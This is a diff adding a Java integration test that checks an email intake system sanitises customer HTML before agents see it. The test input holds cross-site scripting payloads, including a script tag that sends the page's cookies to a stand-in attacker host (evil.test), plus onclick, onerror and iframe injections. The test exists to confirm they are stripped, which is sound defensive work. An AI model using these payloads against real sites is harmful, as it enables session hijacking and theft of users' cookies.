@@ -84,6 +84,23 @@ class EmailIntakeTest extends IntegrationTest {
     }
 
     @Test
+    void agentsSeeTheCustomersHtmlOnlySanitised() {
+        byte[] html = ("From: ann@customer.test\r\nSubject: Look\r\nMessage-ID: <" + unique("html") + "@customer.test>\r\n"
+                + "Content-Type: text/html; charset=UTF-8\r\n\r\n"
+                + "<p>Click <a href=\"https://shop.test/o/1\" onclick=\"steal()\">here</a>"
+                + "<script>document.location='https://evil.test/?'+document.cookie</script>"
+                + "<img src=x onerror=alert(1)><iframe src=https://evil.test></iframe></p>\r\n").getBytes(StandardCharsets.UTF_8);
+        IntakeOutcome outcome = as(() -> intake.receive(desk.clientId(), html, IntakeSource.RELAY));
+
+        TicketEmail shown = as(() -> intake.emailsOf(desk.clientId(), outcome.message().itemId(), admin())).getFirst();
+        assertThat(shown.safeHtml()).contains("https://shop.test/o/1").contains("here").contains("rel=\"")
+                .doesNotContain("<script").doesNotContain("onclick").doesNotContain("onerror").doesNotContain("<img")
+                .doesNotContain("iframe").doesNotContain("evil.test");
+        assertThat(shown.text()).isEqualTo("Click here");
+        assertThat(as(() -> workItems.get(desk.clientId(), outcome.message().itemId())).form()).containsEntry("description", "Click here");
+    }
+
+    @Test
     void aStrangerNamingSomeoneElsesTicketRaisesANewOne() {
         long ticket = receive(TestMail.from("ann@customer.test").subject("Refund")).message().itemId();
         IntakeOutcome stranger = receive(TestMail.from("mallory@evil.test").subject("Re: Refund [WI-" + ticket + "]")
